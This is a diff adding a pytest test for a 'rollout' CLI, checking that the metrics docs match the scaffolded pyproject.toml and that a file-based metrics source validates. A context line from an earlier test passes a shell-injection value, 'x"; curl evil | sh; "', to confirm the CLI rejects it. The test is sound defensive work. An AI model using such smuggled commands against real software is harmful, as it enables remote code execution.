@@ -213,3 +213,25 @@ def test_init_install_names_where_the_workflows_get_rollout_runner(tmp_path: Pat
     out = run_cli(["init", "--install", 'x"; curl evil | sh; "', str(bad)], cwd=tmp_path)
     assert out.returncode == 2 and "--install" in out.stderr
     assert not bad.exists()
+
+
+def test_metrics_docs_show_the_scaffolds_prometheus_source_and_file_is_an_option(
+        tmp_path: Path) -> None:
+    """docs/metrics.md's first path is, table for table, what `rollout init` writes; and
+    `--metrics file` scaffolds the file source, which validates too."""
+    import re
+    import tomllib
+
+    doc = (PROJECT / "docs/metrics.md").read_text(encoding="utf-8")
+    section = doc.split("## Metrics where the runner runs", 1)[1]
+    block = re.search(r"```toml\n(.*?)```", section, re.S)
+    assert block
+    scaffolded = tomllib.loads((PROJECT / "runner/templates/init/pyproject.toml").read_text())
+    assert tomllib.loads(block[1])["tool"]["rollout"]["metrics"] == \
+        scaffolded["tool"]["rollout"]["metrics"]
+    root = tmp_path / "files"
+    out = run_cli(["init", "--metrics", "file", str(root)], cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    config = tomllib.loads((root / "pyproject.toml").read_text())
+    assert config["tool"]["rollout"]["metrics"] == {"type": "file", "path": "metrics/{{ flag }}.json"}
+    assert run_cli(["validate"], cwd=root).returncode == 0
